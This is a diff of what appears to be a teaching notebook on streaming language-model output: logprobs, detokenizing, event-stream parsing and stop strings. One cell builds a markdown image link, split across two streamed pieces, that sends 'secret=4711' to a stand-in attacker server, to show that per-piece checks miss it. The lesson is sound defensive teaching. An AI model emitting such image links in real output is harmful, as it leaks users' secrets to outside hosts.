@@ -72,7 +72,7 @@ guess_part
 # %% tags=["measurement"]
 tale = [{"role": "user", "content": "Tell me a long story about a lighthouse."}]
 scores = {"logprobs": True, "top_logprobs": 3}  # of each token, and of three others
-view = StreamView(lab.server, tale, max_tokens=60, seed=1, **scores)
+view = StreamView(lab.server, tale, max_tokens=60, temperature=0.7, **scores)
 lab.show(view)
 view.run()
 
@@ -209,7 +209,7 @@ guess_pieces.reveal(len(visible))
 # %%
 lab.source(StreamDetokenizer)
 
-# %% tags=["nbval-check-output"]
+# %% tags=["plumbing", "nbval-check-output"]
 alone = [lab.tokenizer.token_bytes(i).decode("utf-8", "replace") for i in ids]
 num_broken = sum("�" in text for text in alone)
 joined = "".join(pieces) + detokenizer.flush()
@@ -361,12 +361,13 @@ known_shares = {dialect: known(dialect) for dialect in recordings}
 rows = [(dialect, f"{share:.0%}") for dialect, share in known_shares.items()]
 lab.table(["dialect", "ends after which some usage is known"], rows)
 
-# %% tags=["nbval-check-output"]
+# %% tags=["plumbing", "nbval-check-output"]
+is_known_more = known_shares["anthropic"] > known_shares["openai"]
 claim("No cut in two changes the events that our parser reads.", not changed)
 claim("Most cuts in two break the naive parser.", len(lost) > len(whole) / 2)
 claim(
     "After a lost connection, a usage is known more often from Anthropic's events.",
-    known_shares["anthropic"] > known_shares["openai"],
+    is_known_more,
 )
 
 # %% [markdown]
@@ -485,7 +486,7 @@ sink = Sink()  # stands for the attacker's server; it ends with this kernel
 trusting = LinkPolicy(image_hosts=None)
 pieces = ["Here you are: ![logo](" + sink.url, "/pixel.gif?secret=4711) Done."]
 found = ["<img" in render(piece, trusting) for piece in pieces]
-guess_found.reveal(str(sum(found)), "Neither piece is an image; together they are one.")
+guess_found.reveal(str(sum(found)), "Each piece was checked alone.")
 
 # %% [markdown]
 # The next cell shows the whole text as a page would that trusts it. You need not click
@@ -576,7 +577,7 @@ guess_held.reveal(round(mean, 3), f"The fixed way always holds {fixed}.")
 # A stop string may also arrive in several tokens. A server that looks for it in each
 # piece of text alone never finds it. The next cell sends `\nUser:` in three pieces.
 
-# %% tags=["nbval-check-output"]
+# %% tags=["plumbing", "nbval-check-output"]
 token_pieces = ["Sure.", "\nUs", "er", ": hi"]
 careless = "".join(piece for piece in token_pieces if stop not in piece)
 safe = StopMatcher([stop])
